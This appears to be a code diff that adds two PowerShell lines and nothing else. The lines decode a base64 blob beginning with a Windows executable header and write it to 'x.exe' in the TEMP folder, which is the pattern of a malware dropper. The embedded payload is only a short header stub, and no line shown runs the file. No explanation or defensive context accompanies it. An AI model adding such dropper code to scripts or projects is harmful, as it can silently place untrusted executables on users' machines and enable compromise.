@@ -1,0 +1,2 @@
+$b = [Convert]::FromBase64String('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA')
+[IO.File]::WriteAllBytes("$env:TEMP\x.exe", $b)
